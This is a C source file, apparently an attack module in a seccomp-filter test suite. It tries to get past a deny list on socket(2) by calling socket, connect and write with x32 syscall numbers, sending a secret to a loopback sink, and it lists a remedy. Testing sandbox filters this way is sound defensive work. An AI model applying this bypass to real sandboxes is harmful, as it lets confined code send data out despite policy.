// SPDX-License-Identifier: MIT
/*
 * Goal:  bytes reach the attacker's host, past a filter that denies socket(2).
 * Means: x32 call numbers: the ordinary ones with bit 30 set. The architecture that a filter sees
 *        is x86_64 all the same, so a deny list that checks it, and then compares the bare numbers,
 *        lets them through. Where the kernel has no x32 ABI (most have not) this is inert.
 */
#include "attacks/attack.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#define X32(nr) (0x40000000L | (nr))

static enum claim run(const struct brief *b)
{
	struct sockaddr_in to = { .sin_family = AF_INET,
				  .sin_port = htons((in_port_t)b->sink),
				  .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	int fd;

	attempting(b);
	fd = (int)syscall(X32(SYS_socket), AF_INET, SOCK_STREAM, 0);
	if (fd < 0)
		return denied("x32 socket");
	if (syscall(X32(SYS_connect), fd, &to, sizeof(to)) < 0)
		return denied("x32 connect");
	if (syscall(X32(SYS_write), fd, b->secret, strlen(b->secret)) < 0)
		return denied("x32 write");
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "bytes reach the attacker's host although socket(2) is denied",
	.means = "x32 call numbers, bit 30 set: inert where the kernel has no x32 ABI",
	.oracle = "sink",
	.needs = NEED_X86_64,
	.id = "SCF-02",
	.attack_id = "T1106, T1562.001, CWE-693",
	.remedy = "a filter that refuses every number from 0x40000000 on, or an allow list",
	.refs = (const char *const[]){ "seccomp(2)", "syscall(2), x32", NULL },
	.run = run,
};
